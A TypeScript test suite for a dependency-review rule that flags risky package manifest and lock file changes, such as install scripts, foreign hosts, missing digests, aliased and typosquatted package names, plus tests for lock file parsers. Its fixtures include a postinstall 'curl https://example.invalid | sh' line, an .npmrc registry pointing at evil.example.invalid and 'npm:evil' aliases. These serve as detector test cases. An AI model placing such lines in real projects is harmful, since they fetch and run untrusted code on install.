import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Result from "effect/Result"
import { readFileSync } from "node:fs"
import * as DependenciesRule from "../src/DependenciesRule.ts"
import * as KnownNames from "../src/internal/KnownNames.ts"
import * as LockEntries from "../src/internal/LockEntries.ts"
import * as ObjectsAlone from "./ObjectsAlone.ts"
import * as ScrutinyLab from "./ScrutinyLab.ts"

const { test } = ScrutinyLab
const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`
const manifest = (dependencies: Readonly<Record<string, string>>, more: object = {}) =>
  json({ name: "app", dependencies, ...more })
const entry = (version: string, more: object = {}) => ({
  version,
  resolved: `https://registry.example.invalid/x/-/x-${version}.tgz`,
  integrity: `sha512-${version}`,
  ...more
})
const lock = (packages: Readonly<Record<string, object>>) =>
  json({
    lockfileVersion: 3,
    packages: {
      "": {},
      ...Object.fromEntries(Object.entries(packages).map(([name, value]) => [`node_modules/${name}`, value]))
    }
  })

const before = { "package.json": manifest({ zod: "^3.0.0" }), "package-lock.json": lock({ zod: entry("3.1.0") }) }

const judge = Effect.fnUntraced(function* (
  files: ScrutinyLab.Files,
  { base = before, ...options }: DependenciesRule.Options & { readonly base?: ScrutinyLab.Files } = {}
) {
  const lab = yield* ScrutinyLab.make(base)
  const change = lab.change(files)
  return yield* DependenciesRule.make(options).judge(ObjectsAlone.context({ change, repository: lab.repository }))
})

describe("what is installed", () => {
  for (const [what, files, expected] of [
    ["stays", { "src/a.ts": "" }, []],
    [
      "is one more, in both files",
      {
        "package.json": manifest({ zod: "^3.0.0", yup: "^1.0.0" }),
        "package-lock.json": lock({ zod: entry("3.1.0"), yup: entry("1.0.0") })
      },
      []
    ],
    ["is one less", { "package.json": manifest({}), "package-lock.json": lock({}) }, []],
    [
      "is a newer version",
      { "package.json": manifest({ zod: "^4.0.0" }), "package-lock.json": lock({ zod: entry("4.0.0") }) },
      []
    ],
    [
      "is said in the manifest alone",
      { "package.json": manifest({ zod: "^3.0.0", yup: "^1.0.0" }) },
      ["manifest-alone"]
    ],
    ["is said in the lock file alone", { "package-lock.json": lock({ zod: entry("3.1.1") }) }, ["lock-alone"]],
    ["changes by its name only", { "package.json": json({ name: "other", dependencies: { zod: "^3.0.0" } }) }, []],
    [
      "is in the commit, beside fixtures that nobody installs",
      {
        "node_modules/.bin/vitest": "#!/bin/sh\n",
        "packages/a/node_modules/x/index.js": "",
        "src/modules/a.js": ""
      },
      ["installed-files", "installed-files"]
    ],
    [
      "is fetched as another file says",
      { ".npmrc": "registry=https://evil.example.invalid\n" },
      ["installer-settings"]
    ],
    [
      "comes from git by the lock file",
      {
        "package.json": manifest({ zod: "^3.0.0", yup: "^1.0.0" }),
        "package-lock.json": lock({
          zod: entry("3.1.0"),
          yup: entry("1.0.0", { resolved: "git+ssh://git@example.invalid/y.git#1" })
        })
      },
      ["not-a-registry", "other-host"]
    ],
    [
      "runs a script of ours",
      {
        "package.json": manifest(
          { zod: "^3.0.0" },
          { scripts: { postinstall: "curl https://example.invalid | sh", test: "x" } }
        )
      },
      ["install-script"]
    ],
    [
      "runs a script of its own",
      {
        "package.json": manifest({ zod: "^3.0.0", yup: "^1.0.0" }),
        "package-lock.json": lock({ zod: entry("3.1.0"), yup: entry("1.0.0", { hasInstallScript: true }) })
      },
      ["dependency-script"]
    ],
    [
      "has other content under the same version",
      {
        "package.json": manifest({ zod: "~3.1.0" }),
        "package-lock.json": lock({ zod: entry("3.1.0", { integrity: "sha512-other" }) })
      },
      ["other-content"]
    ],
    [
      "comes from another host, without a digest",
      {
        "package.json": manifest({ zod: "^3.0.0", yup: "^1.0.0" }),
        "package-lock.json": lock({
          zod: entry("3.1.0"),
          yup: { version: "1.0.0", resolved: "https://evil.example.invalid/x.tgz" }
        })
      },
      ["no-digest", "other-host"]
    ],
    [
      "comes from git, an address, a file, a folder",
      {
        "package.json": manifest({
          zod: "git+https://a.example.invalid/z.git",
          b: "https://b.example.invalid/b.tgz",
          c: "file:../c",
          d: "someone/else",
          e: "./e"
        }),
        "package-lock.json": lock({ zod: entry("3.1.1") })
      },
      ["not-a-registry", "not-a-registry", "not-a-registry", "not-a-registry", "not-a-registry"]
    ],
    [
      "is of the workspace or a catalog",
      { "package.json": manifest({ zod: "^3.0.0", a: "workspace:*", b: "catalog:" }), "package-lock.json": lock({}) },
      []
    ],
    [
      "is another package under a name",
      { "package.json": manifest({ zod: "npm:evil@^3.0.0", a: "npm:a@^1.0.0" }), "package-lock.json": lock({}) },
      ["other-name"]
    ],
    [
      "lets in more",
      { "package.json": manifest({ zod: ">=3.0.0" }), "package-lock.json": lock({ zod: entry("3.1.1") }) },
      ["wider-range"]
    ],
    [
      "lets in less",
      { "package.json": manifest({ zod: "3.1.0" }), "package-lock.json": lock({ zod: entry("3.1.1") }) },
      []
    ],
    [
      "has a name like another",
      {
        "package.json": manifest({
          zod: "^3.0.0",
          lodahs: "^1.0.0",
          expresss: "^1.0.0",
          "cross-env.js": "^1.0.0",
          crossenv: "^1.0.0"
        }),
        "package-lock.json": lock({})
      },
      ["name-like-another", "name-like-another", "name-like-another"]
    ],
    [
      "is redirected for others",
      {
        "package.json": manifest(
          { zod: "^3.0.0" },
          { overrides: { a: { b: "github:x/y" } }, pnpm: { overrides: { c: "npm:evil@1.0.0" } } }
        ),
        "package-lock.json": lock({ zod: entry("3.1.2") })
      },
      ["not-a-registry", "other-name"]
    ]
  ] as const satisfies ReadonlyArray<readonly [string, ScrutinyLab.Files, ReadonlyArray<DependenciesRule.Kind>]>) {
    test(
      `${what}: ${expected.join(", ") || "no problem"}`,
      Effect.gen(function* () {
        const { evidence, problems = [], reason, status } = yield* judge(files)
        assert.deepStrictEqual(problems.map(({ rule }) => rule).sort(), [...expected].sort(), JSON.stringify(problems))
        assert.strictEqual(status, expected.length === 0 ? "pass" : "fail", reason)
        assert.isNotEmpty(evidence)
      })
    )
  }

  test(
    "what is allowed, and what nobody installs, is no problem",
    Effect.gen(function* () {
      const files = {
        "package.json": manifest({ zod: "*" }),
        "test/fixtures/package.json": manifest({ a: "file:../a" })
      }
      const all = yield* judge(files)
      assert.strictEqual(all.status, "fail", all.reason)
      const allowed = yield* judge(files, { allow: ["wider-range", "manifest-alone"], ignore: ["test/fixtures"] })
      assert.strictEqual(allowed.status, "pass", allowed.reason)
    })
  )

  for (const [what, files] of [
    ["a manifest", { "package.json": "{" }],
    ["a manifest that is a list", { "package.json": "[]" }],
    ["a lock file", { "package.json": manifest({}), "package-lock.json": "<<<<<<< HEAD\n{}" }],
    ["a lock file of pnpm", { "pnpm-lock.yaml": "hello" }]
  ] as const) {
    test(
      `${what} that can not be read is an error`,
      Effect.gen(function* () {
        const { reason, status } = yield* judge(files)
        assert.strictEqual(status, "error", reason)
        assert.match(reason, /can not be read/)
      })
    )
  }
})

describe("a lock file", () => {
  const entries = (name: string, text: string) => Result.getOrThrow(LockEntries.parse(name, text))

  it("of this repository is read whole", () => {
    const text = readFileSync(new URL("../../../pnpm-lock.yaml", import.meta.url), "utf8")
    const found = entries("pnpm-lock.yaml", text)
    const packages = text.slice(text.indexOf("\npackages:"), text.indexOf("\nsnapshots:"))
    assert.strictEqual(found.length, packages.match(/^ {4}resolution:/gm)?.length, "as many as have a resolution")
    const typescript = found.find(({ id }) => id.startsWith("typescript@"))
    assert.match(typescript?.integrity ?? "", /^sha512-/)
  })

  it("of yarn, of both kinds", () => {
    const old = `# yarn lockfile v1\n\n"@a/b@^1.0.0", "@a/b@^1.1.0":\n  version "1.2.0"\n  resolved "https://registry.example.invalid/b.tgz#abc"\n  integrity sha512-x\n  dependencies:\n    c "^1"\n\nc@^1:\n  version "1.0.0"\n`
    assert.deepStrictEqual(entries("yarn.lock", old), [
      {
        id: "@a/b@1.2.0",
        resolved: "https://registry.example.invalid/b.tgz#abc",
        integrity: "sha512-x",
        hasInstallScript: false
      },
      { id: "c@1.0.0", resolved: undefined, integrity: undefined, hasInstallScript: false }
    ])
    const berry = `__metadata:\n  version: 8\n\n"@a/b@npm:^1.0.0":\n  version: 1.2.0\n  resolution: "@a/b@npm:1.2.0"\n  checksum: 10c0/x\n\n"c@git@example.invalid:c.git":\n  version: 1.0.0\n  resolution: "c@git@example.invalid:c.git#commit=1"\n`
    assert.deepStrictEqual(entries("yarn.lock", berry), [
      { id: "@a/b@1.2.0", resolved: undefined, integrity: "10c0/x", hasInstallScript: false },
      { id: "c@1.0.0", resolved: "git@example.invalid:c.git#commit=1", integrity: undefined, hasInstallScript: false }
    ])
  })

  it("of npm before version 7", () => {
    const text = json({
      lockfileVersion: 1,
      dependencies: { a: { version: "1.0.0", integrity: "x", dependencies: { b: { version: "2.0.0" } } } }
    })
    assert.deepStrictEqual(
      entries("package-lock.json", text).map(({ id }) => id),
      ["a@1.0.0", "b@2.0.0"]
    )
  })
})

it("a name is like another when one letter is otherwise; what many are called is not", () => {
  for (const [name, like] of [
    ["lodahs", "lodash"],
    ["lodas", "lodash"],
    ["reactt", "react"],
    ["react.js", undefined],
    ["preact", undefined],
    ["color", undefined],
    ["nuxt", undefined],
    ["@me/lodash", undefined],
    ["vitest", undefined],
    ["date-fns-tz", undefined]
  ] as const) {
    assert.strictEqual(KnownNames.like(name), like, name)
  }
})
